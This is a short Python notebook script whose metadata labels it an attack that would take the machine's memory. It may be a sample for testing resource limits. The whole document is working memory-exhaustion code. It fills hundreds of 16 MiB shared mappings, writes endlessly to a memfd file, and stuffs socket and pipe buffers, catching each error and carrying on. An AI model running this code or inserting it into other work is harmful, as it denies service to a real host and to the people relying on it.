# ---
# jupyter:
#   attack: {harm: "it would take this machine's memory"}
# ---

# %% [markdown]
# Takes memory that is not a process's own: memfd files, shared mappings, pipes and socket buffers.

# %%
import mmap
import os
import socket

kept = []
try:
    while len(kept) < 500:
        kept.append(mmap.mmap(-1, 1 << 24))
        kept[-1].write(b"x" * (1 << 24))
except (OSError, ValueError, MemoryError) as error:
    print(error)
try:
    file = os.memfd_create("hoard")
    while True:
        os.write(file, b"x" * (1 << 24))
except OSError as error:
    print(error)
try:
    for _ in range(200):
        a, b = socket.socketpair()
        kept += [a, b, os.pipe()]
        a.setblocking(False)
        a.send(b"x" * (1 << 24))
except OSError as error:
    print(error)
